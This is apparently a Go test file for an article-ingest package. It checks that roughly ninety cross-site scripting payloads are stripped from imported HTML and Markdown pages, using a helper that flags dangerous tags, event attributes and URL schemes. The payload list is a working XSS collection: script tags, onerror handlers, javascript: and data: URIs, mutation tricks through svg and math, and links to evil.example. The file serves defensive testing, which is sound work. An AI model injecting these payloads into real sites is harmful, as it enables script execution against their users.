package ingest

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// harm is what a browser or a feed reader must not get of an article, if the content has any.
func harm(content string) string {
	z := html.NewTokenizer(strings.NewReader(content))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return ""
		case html.CommentToken, html.DoctypeToken:
			return "a comment"
		case html.StartTagToken, html.SelfClosingTagToken:
			tag := z.Token()
			switch tag.Data {
			case "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button", "select", "textarea",
				"base", "meta", "link", "svg", "math", "template", "noscript", "title", "xmp", "plaintext", "marquee", "portal", "isindex":
				return "<" + tag.Data + ">"
			}
			for _, a := range tag.Attr {
				if bad := harmIn(a); bad != "" {
					return bad
				}
			}
		}
	}
}

func harmIn(a html.Attribute) string {
	value := strings.Map(func(r rune) rune {
		if r <= ' ' {
			return -1
		}
		return r
	}, strings.ToLower(a.Val))
	switch {
	case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", a.Key == "formaction", a.Key == "ping", a.Key == "background", strings.Contains(a.Key, ":"):
		return "the attribute " + a.Key
	case a.Key == "alt" || a.Key == "title" || a.Key == "label": // text
		return ""
	}
	for _, scheme := range []string{"javascript:", "vbscript:", "data:", "livescript:", "blob:", "file:"} {
		if strings.Contains(value, scheme) && !strings.Contains(value, "https://") {
			return scheme
		}
	}
	return ""
}

// H2: nothing of this survives, and H3: no page is refused for it.
func TestHTMLIsSanitised(t *testing.T) {
	payloads := []string{
		`<script>alert(1)</script>`,
		`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<script/x>alert(1)</script/x>`,
		"<script\n>alert(1)</script\n>",
		`<script>alert(1)//`,
		`<<script>alert(1)</script>`,
		`<noscript><script>alert(1)</script></noscript>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<img src=x onerror=alert(1)>`,
		`<img src=x ONERROR="alert(1)">`,
		`<img/src=x/onerror=alert(1)>`,
		"<img src=x\fonerror=alert(1)>",
		`<img src="x" """onerror=alert(1)>`,
		`<img src=x alt=">" onload=alert(1)>`,
		`<img src=javascript:alert(1)>`,
		`<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
		`<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">`,
		`<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>`,
		`<p onclick=alert(1) onmouseover='alert(1)' onfocus=alert(1) tabindex=0 autofocus>p</p>`,
		`<body onload=alert(1)>`,
		`<html onmouseover=alert(1)>`,
		`<a href=javascript:alert(1)>a</a>`,
		`<a href="JaVaScRiPt:alert(1)">a</a>`,
		`<a href=" &#14; javascript:alert(1)">a</a>`,
		"<a href=\"java\tscr\nipt:alert(1)\">a</a>",
		`<a href="&#106;&#x61;vascript&colon;alert(1)">a</a>`,
		`<a href="javascript&#58;alert(1)">a</a>`,
		`<a href="vbscript:msgbox(1)">a</a>`,
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>`,
		`<a href="view-source:javascript:alert(1)">a</a>`,
		`<a href="file:///etc/passwd">a</a>`,
		`<a href="blob:https://example.org/x">a</a>`,
		`<a href="//evil.example" ping="//evil.example" target=_blank>a</a>`,
		`<base href="javascript:alert(1)//"><a href="x">a</a>`,
		`<base href="data:text/html,"><a href="x">a</a>`,
		`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
		`<link rel=stylesheet href="javascript:alert(1)">`,
		`<link rel=import href=//evil.example>`,
		`<style>@import "//evil.example";</style>`,
		`<style><img src="</style><img src=x onerror=alert(1)>">`,
		`<p style="background:url(javascript:alert(1))">p</p>`,
		`<p style="width:expression(alert(1))">p</p>`,
		`<iframe src=javascript:alert(1)></iframe>`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>`,
		`<object data=javascript:alert(1)></object>`,
		`<object><param name=movie value=//evil.example></object>`,
		`<embed src=javascript:alert(1)>`,
		`<applet code=x></applet>`,
		`<form action=javascript:alert(1)><p>f</p><input type=submit><button formaction=javascript:alert(1)>b</button></form>`,
		`<form><p>f</p></form><button form=x formaction=javascript:alert(1)>b</button>`,
		`<input autofocus onfocus=alert(1)>`,
		`<select autofocus onfocus=alert(1)><option>o</select>`,
		`<textarea autofocus onfocus=alert(1)></textarea>`,
		`<isindex action=javascript:alert(1)>`,
		`<svg onload=alert(1)>`,
		`<svg><script>alert(1)</script></svg>`,
		`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<svg><animate attributeName=href values=javascript:alert(1) /></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>`,
		`<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>`,
		`<svg></p><style><a id="</style><img src=x onerror=alert(1)>">`,
		`<math href=javascript:alert(1)>m</math>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
		`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>`,
		`<video src=javascript:alert(1) poster=javascript:alert(1) onerror=alert(1)><source onerror=alert(1) src=javascript:alert(1)></video>`,
		`<audio src=x onerror=alert(1)></audio>`,
		`<details open ontoggle=alert(1)>d</details>`,
		`<marquee onstart=alert(1)>m</marquee>`,
		`<table background=javascript:alert(1)><td background=javascript:alert(1)>t</table>`,
		`<template><script>alert(1)</script></template>`,
		`<title><img src=x onerror=alert(1)></title>`,
		`<title></title><img src=x onerror=alert(1)>`,
		`<xmp><img src=x onerror=alert(1)></xmp>`,
		`<noembed><img src=x onerror=alert(1)></noembed>`,
		`<noframes></noframes><img src=x onerror=alert(1)>`,
		`<plaintext><img src=x onerror=alert(1)>`,
		`<!--[if IE]><script>alert(1)</script><![endif]-->`,
		`<!--><img src=x onerror=alert(1)>-->`,
		`<![CDATA[<img src=x onerror=alert(1)>]]>`,
		`<?xml-stylesheet href="javascript:alert(1)"?>`,
		`<blockquote cite=javascript:alert(1)>b</blockquote>`,
		`<x onclick=alert(1)>x</x>`,
		`<custom-tag onconnect=alert(1)>x</custom-tag>`,
		`<div id=x tabindex=1 onactivate=alert(1) contenteditable>d</div>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`,
		`<p title="--><script>alert(1)</script>">p</p>`,
		"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	}
	for _, payload := range payloads {
		for _, page := range []string{"<article><h1>X</h1>%s<p>After.</p></article>", "---\ntitle: X\n---\n%s<p>After.</p>"} {
			raw := strings.Replace(page, "%s", payload, 1)
			a, err := newReader(t).Read("s", "a.html", []byte(raw))
			if err != nil {
				t.Errorf("%s: %v", raw, err)
			}
			if bad := harm(a.Content); bad != "" {
				t.Errorf("%s: got %s, which has %s", raw, a.Content, bad)
			}
		}
	}
}
